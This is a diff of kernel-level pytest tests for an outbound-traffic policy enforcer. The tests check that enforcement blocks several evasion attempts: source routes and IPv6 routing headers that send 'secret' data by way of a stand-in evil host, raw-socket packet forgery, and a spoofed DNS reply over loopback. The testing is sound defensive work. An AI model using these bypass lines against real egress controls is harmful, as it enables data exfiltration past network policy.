@@ -4,17 +4,20 @@ from __future__ import annotations
 
 import socket
 import struct
+from dataclasses import replace
 from typing import TYPE_CHECKING
 
 import pytest
 
 from exporter.policy.compile import Compiled, compile_policy
+from exporter.policy.model import Mode
 from tests.unit.policy.files import rules
 
 from .agents import Agent, agent
 from .direct import KernelSide, kernel_side
 from .governed import question, record, reply
 from .lab import NETWORKS, PORT, V4, V6, Lab, Network
+from .routes import IPV6_TCLASS, by_way_of_evil, to_evil_at_last
 
 if TYPE_CHECKING:
     from collections.abc import Iterator
@@ -23,7 +26,7 @@ pytestmark = pytest.mark.kernel
 
 LISTENER, CLOSED = 7100, 7101
 USER = ("setpriv", "--reuid=65534", "--regid=65534", "--clear-groups")
-IPV6_RTHDR, IPV6_FREEBIND, IPV6_TCLASS = 57, 78, 67
+IPV6_FREEBIND, IPV6_HDRINCL = 78, 36
 FILL = r"exec('try:\n while True: {0}.send(bytes(65536))\nexcept BlockingIOError: pass')"
 DRAIN = r"exec('try:\n while {0}.recv(65536): pass\nexcept TimeoutError: pass')"
 
@@ -34,35 +37,20 @@ def kernel() -> Iterator[KernelSide]:
         yield side
 
 
+def audited(allow: str) -> Compiled:
+    return compile_policy(rules(allow=allow))
+
+
 def enforced(allow: str) -> Compiled:
-    return compile_policy(rules(allow=allow, more="mode: enforce\n"))
-
-
-def to_evil_at_last(end: str) -> str:
-    """A line that gives a socket a route of which no hop is left: the kernel goes by it all the same."""
-    header = f"bytes([0, 2, 4, 0, 0, 0, 0, 0]) + socket.inet_pton(socket.AF_INET6, '{V6.evil}')"
-    return f"{end}.setsockopt(socket.IPPROTO_IPV6, {IPV6_RTHDR}, {header})"
-
-
-def by_way_of_evil(end: str, network: Network, final: str) -> list[str]:
-    """Lines that give a connection a source route, and have the kernel look for its way anew."""
-    if network is V4:
-        hop = f"bytes([1, 131, 7, 4]) + socket.inet_aton('{V4.evil}')"
-        return [f"{end}.setsockopt(socket.SOL_IP, socket.IP_OPTIONS, {hop})", f"{end}.setsockopt(0, 1, 8)"]
-    hops = " + ".join(f"socket.inet_pton(socket.AF_INET6, '{hop}')" for hop in (final, V6.evil))
-    header = "bytes([0, 4, 4, 1, 1, 0, 0, 0])"
-    return [
-        f"{end}.setsockopt(socket.IPPROTO_IPV6, {IPV6_RTHDR}, {header} + {hops})",
-        f"{end}.setsockopt(socket.IPPROTO_IPV6, {IPV6_TCLASS}, 4)",
-    ]
+    return replace(audited(allow), mode=Mode.ENFORCE)
 
 
 @NETWORKS
 def test_a_source_route_for_an_open_connection_is_decided_like_any_other(
     lab: Lab, kernel: KernelSide, network: Network
 ) -> None:
-    """Over IPv6 any user can set it."""
-    policy = enforced(f"any://{V4.peer}\nany://[{V6.peer}]")
+    """Where the policy is enforced, it can't be set: a socket may have it from before."""
+    policy = audited(f"any://{V4.peer}\nany://[{V6.peer}]")
     under = USER if network is V6 else ()
     with lab.watch() as watch, agent(kernel, lab, policy, under=under) as job:
         assert job.do(f"s = socket.create_connection(('{network.peer}', {PORT}))") == "ok"
@@ -70,6 +58,7 @@ def test_a_source_route_for_an_open_connection_is_decided_like_any_other(
             job.do("s.sendall(b'hello')", "assert s.recv(5)", *by_way_of_evil("s", network, network.peer))
             == "ok"
         )
+        kernel.change_mode(policy, Mode.ENFORCE)
         assert job.do("s.sendall(b'secret')", "s.close()") == "ok", "it is in the queue"
     assert watch.arrivals.packets_to(network.evil) == 0
     assert watch.arrivals.stream_bytes.total() == 5
@@ -82,7 +71,8 @@ def test_what_waited_for_room_takes_no_source_route_either(
 ) -> None:
     """When its peer reads, it leaves in nobody's context, and without any owner where that closed it."""
     other = "server" if end == "client" else "client"
-    with lab.watch() as watch, agent(kernel, lab, enforced("198.51.100.77"), under=USER) as job:
+    policy = audited("198.51.100.77")
+    with lab.watch() as watch, agent(kernel, lab, policy, under=USER) as job:
         opened = (
             f"listener = socket.create_server(('::1', {LISTENER}), family=socket.AF_INET6)",
             f"client = socket.create_connection(('::1', {LISTENER}))",
@@ -91,6 +81,7 @@ def test_what_waited_for_room_takes_no_source_route_either(
             f"{other}.settimeout(0.5)",
         )
         assert job.do(*opened, FILL.format(end), *by_way_of_evil(end, V6, "::1")) == "ok"
+        kernel.change_mode(policy, Mode.ENFORCE)
         if is_closed:
             assert job.do(f"{end}.close()") == "ok"
         assert job.do(DRAIN.format(other)) == "ok"
@@ -102,35 +93,43 @@ def test_a_route_that_is_at_its_end_is_decided_like_any_other(
     lab: Lab, kernel: KernelSide, target: str
 ) -> None:
     """Of a datagram, of a connection's first segment, and on one that is open."""
-    with lab.watch() as watch, agent(kernel, lab, enforced(f"any://[{V6.peer}]"), under=USER) as job:
-        udp = "u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)"
-        assert job.do(udp, to_evil_at_last("u"), f"u.sendto(b'secret', ('{target}', {PORT}))") == "EPERM"
-        tcp = ("s = socket.socket(socket.AF_INET6)", "s.setblocking(False)")
-        assert job.do(*tcp, to_evil_at_last("s"), f"s.connect(('{target}', {PORT}))") == "EINPROGRESS"
-        assert job.do(f"o = socket.create_connection(('{V6.peer}', {PORT}))", to_evil_at_last("o")) == "ok"
-        assert job.do(f"o.setsockopt(socket.IPPROTO_IPV6, {IPV6_TCLASS}, 4)", "o.sendall(b'secret')") == "ok"
+    policy = audited(f"any://[{V6.peer}]")
+    with lab.watch() as watch, agent(kernel, lab, policy, under=USER) as job:
+        made = ("u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)", "s = socket.socket(socket.AF_INET6)")
+        opened = f"o = socket.create_connection(('{V6.peer}', {PORT}))"
+        assert job.do(*made, "s.setblocking(False)", opened, *map(to_evil_at_last, "uso")) == "ok"
+        assert job.do(f"o.setsockopt(socket.IPPROTO_IPV6, {IPV6_TCLASS}, 4)") == "ok"
+        kernel.change_mode(policy, Mode.ENFORCE)
+        assert job.do(f"u.sendto(b'secret', ('{target}', {PORT}))") == "EPERM"
+        assert job.do(f"s.connect(('{target}', {PORT}))") == "EINPROGRESS"
+        assert job.do("o.sendall(b'secret')") == "ok"
     assert watch.arrivals.packets_to(V6.evil) == 0
 
 
 def test_a_raw_packet_for_no_address_is_for_whom_it_is_from(lab: Lab, kernel: KernelSide) -> None:
     """This machine's own kernel takes it in by `lo`, and answers with all that is in it."""
-    with lab.watch() as watch, agent(kernel, lab, enforced("tcp://198.51.100.77")) as job:
+    policy = audited("tcp://198.51.100.77")
+    with lab.watch() as watch, agent(kernel, lab, policy) as job:
         echo = struct.pack("!BBHHH", 8, 0, 0xF7FF, 0, 0)
         lines = (
             "r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)",
             "r.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)",
             f"ends = socket.inet_aton('{V4.evil}') + bytes(4)",
             f"head = struct.pack('!BBHHHBBH', 0x45, 0, {20 + len(echo)}, 1, 0, 64, 1, 0) + ends",
-            f"r.sendto(head + {echo!r}, ('127.0.0.1', 0))",
         )
-        assert job.do(*lines) == "EPERM"
+        assert job.do(*lines) == "ok"
+        kernel.change_mode(policy, Mode.ENFORCE)
+        assert job.do(f"r.sendto(head + {echo!r}, ('127.0.0.1', 0))") == "EPERM"
     assert watch.arrivals.packets_to(V4.evil) == 0
 
 
 def test_a_source_route_that_is_allowed_works(lab: Lab, kernel: KernelSide) -> None:
-    with lab.watch() as watch, agent(kernel, lab, enforced(f"any://[{V6.peer}]\nany://[{V6.evil}]")) as job:
+    policy = audited(f"any://[{V6.peer}]\nany://[{V6.evil}]")
+    with lab.watch() as watch, agent(kernel, lab, policy) as job:
         assert job.do(f"s = socket.create_connection(('{V6.peer}', {PORT}))") == "ok"
-        assert job.do(*by_way_of_evil("s", V6, V6.peer), "s.sendall(b'hello')") == "ok"
+        assert job.do(*by_way_of_evil("s", V6, V6.peer)) == "ok"
+        kernel.change_mode(policy, Mode.ENFORCE)
+        assert job.do("s.sendall(b'hello')") == "ok"
         reset = "s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack('ii', 1, 0))"
         assert job.do(reset, "s.close()") == "ok", "else it would be sent again beside other tests"
     assert watch.arrivals.packets_to(V6.evil) > 0
@@ -277,22 +276,28 @@ def test_loopback_goes_on_by_lo(lab: Lab, kernel: KernelSide, family: str, addre
         assert job.do("assert one.recv(9) == b'x'") == "ok"
 
 
-RAW_ANSWER = {
+RAW = {
     4: """
 r = socket.socket(socket.AF_INET, socket.SOCK_RAW, {protocol})
 r.setsockopt(socket.SOL_IP, socket.IP_HDRINCL, 1)
+""",
+    6: """
+r = socket.socket(socket.AF_INET6, socket.SOCK_RAW, {protocol})
+r.setsockopt(socket.IPPROTO_IPV6, 36, 1)
+""",
+}
+"""36 is IPV6_HDRINCL."""
+RAW_ANSWER = {
+    4: """
 ends = socket.inet_aton("127.0.0.53") + socket.inet_aton("127.0.0.1")
 head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0) + ends
 r.sendto(head + datagram, ("127.0.0.1", 0))
 """,
     6: """
-r = socket.socket(socket.AF_INET6, socket.SOCK_RAW, {protocol})
-r.setsockopt(socket.IPPROTO_IPV6, 36, 1)
 head = struct.pack("!IHBB", 6 << 28, len(datagram), 17, 64) + 2 * socket.inet_pton(socket.AF_INET6, "::1")
 r.sendto(head + datagram, ("::1", 0))
 """,
 }
-"""36 is IPV6_HDRINCL."""
 
 
 def datagram(payload: bytes, source: str, target: str) -> bytes:
@@ -313,10 +318,10 @@ def datagram(payload: bytes, source: str, target: str) -> bytes:
 def test_over_loopback_a_raw_socket_is_no_resolver(
     lab: Lab, kernel: KernelSide, version: int, resolver: str, local: str, protocol: str
 ) -> None:
-    """It takes CAP_NET_RAW, which root in a container has, and any rule that allows the socket."""
+    """It takes CAP_NET_RAW, which root in a container has, and a header of one's own from before."""
     asked = question("trusted.example")
     answer = reply(asked, record(V4.evil))
-    policy = enforced(f"trusted.example:{PORT}\nicmp://198.51.100.77")
+    policy = audited(f"trusted.example:{PORT}\nicmp://198.51.100.77")
     family = "socket.AF_INET" if version == 4 else "socket.AF_INET6"
     with lab.watch() as watch, agent(kernel, lab, policy) as job:
         ask = (
@@ -326,8 +331,9 @@ def test_over_loopback_a_raw_socket_is_no_resolver(
             f"s.sendto(bytes.fromhex('{asked.hex()}'), ('{resolver}', 53))",
             f"datagram = bytes.fromhex('{datagram(answer, resolver, local).hex()}')",
         )
-        forge = RAW_ANSWER[version].format(protocol=protocol).strip().splitlines()
-        assert job.do(*ask, *forge) == "ok"
+        assert job.do(*RAW[version].format(protocol=protocol).strip().splitlines()) == "ok"
+        kernel.change_mode(policy, Mode.ENFORCE)
+        assert job.do(*ask, *RAW_ANSWER[version].strip().splitlines()) == "ok"
         assert job.do("assert s.recv(4096) == datagram[8:]") == "ok", "it is forged"
         assert job.do(f"socket.create_connection(('{V4.evil}', {PORT}))") == "EPERM"
     assert watch.arrivals.packets_to(V4.evil) == 0
